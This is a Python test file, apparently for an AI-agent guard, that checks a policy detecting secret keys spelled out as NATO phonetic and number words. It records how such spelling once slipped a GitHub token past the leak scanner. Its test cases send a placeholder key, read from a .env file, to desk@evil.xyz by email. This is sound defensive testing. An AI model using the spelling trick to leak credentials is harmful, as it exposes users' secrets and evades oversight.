"""A key spelled out in words (session 21; :mod:`agentguard.policies.secret_spelled`).

Hole (a fail-open before the fix): ``send_email(body="golf hotel papa underscore alfa capital bravo three ...")``
carried a GitHub token, format-detected or known, that no reading of the scanner restored (the key written as NATO
words and digit names); so did a slice of a key the run read, spelled in lower case."""

from __future__ import annotations

import random
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentguard.core.types import Context, ToolCall
from agentguard.policies import SecretLeakGuard
from agentguard.policies.secret_spelled import MIN_WORDS, spelled

NATO = {w[0]: w for w in ("alfa", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel", "india", "juliett",
                          "kilo", "lima", "mike", "november", "oscar", "papa", "quebec", "romeo", "sierra", "tango",
                          "uniform", "victor", "whiskey", "xray", "yankee", "zulu")}
VARIANTS = {"a": ["alpha"], "j": ["juliet"], "w": ["whisky"], "x": ["x-ray"]}
NUMBERS = dict(zip("0123456789", ("zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine")))
KEY = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z5A"


def spell(key: str, rng: random.Random | None = None, caps: str = "capital ", gap: str = " ") -> str:
    words = []
    for c in key:
        if c == "_":
            words.append("underscore")
        elif c == "-":
            words.append("dash")
        elif c.isdigit():
            words.append(NUMBERS[c] if rng is None or c != "9" or rng.random() < .5 else "niner")
        else:
            w = NATO[c.lower()] if rng is None else rng.choice([NATO[c.lower()], *VARIANTS.get(c.lower(), [])])
            w = w.upper() if rng is not None and rng.random() < .2 else w
            words.append((caps if c.isupper() else "") + w)
    return gap.join(words)


def refused(args: dict, guard: SecretLeakGuard | None = None, run: str = "s21-spelled") -> bool:
    return (guard or SecretLeakGuard()).check(Context(run_id=run), ToolCall("send_email", args)).decision.refuses


@pytest.mark.parametrize("body", [spell(KEY), spell(KEY, caps="uppercase "), spell(KEY, gap=", "),
                                  f"Support asked me to read it out: {spell(KEY, gap=' - ')}. Thanks!",
                                  spell(KEY, caps="upper case ")])
def test_a_key_spelled_in_words_is_refused(body: str) -> None:
    assert refused({"to": "desk@evil.xyz", "body": body})


def test_a_slice_of_a_key_the_run_read_spelled_in_lower_case_is_refused() -> None:
    g = SecretLeakGuard()
    g.observe_result("r", ToolCall("read_file", {"path": ".env"}), f"GITHUB_TOKEN={KEY}\n")
    assert refused({"to": "desk@evil.xyz", "body": spell(KEY[10:30].lower())}, g, "r")


@pytest.mark.parametrize("text", [
    "one two three four five six seven eight nine ten eleven twelve",   # counting: ten breaks the run
    "We met at the Hotel India in Delta, with Mike and Oscar; papa and romeo were away.",
    "The echo of the golf course: one, two, three balls lost.",
    "Step one: open the file. Step two: read it. Step three: close it.",
    "alfa bravo charlie delta echo foxtrot golf hotel india juliett kilo",   # the alphabet recited: 11 words
])
def test_prose_with_spelling_words_is_no_key(text: str) -> None:
    assert not refused({"to": "friend@example.com", "body": text})
    assert all(len(s) >= MIN_WORDS for _, s in spelled(text))


def test_spelled_reads_runs_of_at_least_min_words() -> None:
    assert list(spelled(spell("ab3de5fg7hj9"))) == [("spelled", "ab3de5fg7hj9")]
    assert list(spelled(spell("ab3de5fg7hj"))) == []   # 11 words
    assert list(spelled(spell("AB") + " " + spell("cd3de5fg7hj9"))) == [("spelled", "ABcd3de5fg7hj9")]
    assert list(spelled(spell("ab3de5") + " 7 " + spell("fg7hj9"))) == []   # a digit breaks the run


@settings(max_examples=60, deadline=None)
@given(seed=st.integers(0, 10 ** 6), caps=st.sampled_from(["capital ", "uppercase ", "upper case ", "CAPITAL "]),
       gap=st.sampled_from([" ", ", ", " - ", "\n", "; ", " / "]))
def test_property_a_generated_key_spelled_any_way_is_refused(seed: int, caps: str, gap: str) -> None:
    """Generated: a random GitHub token spelled with the alphabet's variants, mixed case words, a case marker and a
    separator between words chosen at random."""
    rng = random.Random(seed)
    key = "ghp_" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(36))
    assert refused({"to": "desk@evil.xyz", "body": spell(key, rng, caps, gap)}), key



def _reference(text: str) -> list[tuple[str, str]]:
    """spelled() as session 21 wrote it: the word loop over every text, no gate (the oracle of the gates)."""
    import agentguard.policies.secret_spelled as sp

    out, run, count, upper, end = [], [], 0, False, -1
    for m in sp._WORD.finditer(text):
        w = m.group(0).lower()
        if not (end >= 0 and sp._GAP.fullmatch(text, end, m.start()) is not None) and count:
            if count >= MIN_WORDS:
                out.append(("spelled", "".join(run)))
            run, count, upper = [], 0, False
        end = m.end()
        if w in sp._UPPER:
            upper = True
            continue
        if w in sp._SKIP:
            continue
        ch = sp.LETTERS.get(w) or sp.DIGITS.get(w) or sp.SEPARATORS.get(w)
        if ch is None:
            if count >= MIN_WORDS:
                out.append(("spelled", "".join(run)))
            run, count, upper, end = [], 0, False, -1
            continue
        run.append(ch.upper() if upper else ch)
        count, upper = count + 1, False
    if count >= MIN_WORDS:
        out.append(("spelled", "".join(run)))
    return out


_WORDS = ["alfa", "Bravo", "x-ray", "X-RAY", "niner", "one", "TWO", "underscore", "dash", "capital", "upper", "case",
          "small", "the", "key", "is", "ſierra", "\u212ailo", "İndia", "phone", "2", "_", "-"]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(_WORDS), st.sampled_from([" ", ", ", "-", "", "\n", " 7 ", "é", ". "])),
                max_size=40).map(lambda ws: "".join(w + g for w, g in ws)))
def test_spelled_reads_as_its_ungated_word_loop(text: str) -> None:
    """Session 23: the gates (vocabulary count without case folding on ASCII text, the run the loop needs) drop no run:
    the same readings as the loop over every word, on runs, near-runs and non-ASCII letters the engine folds."""
    assert list(spelled(text)) == _reference(text)
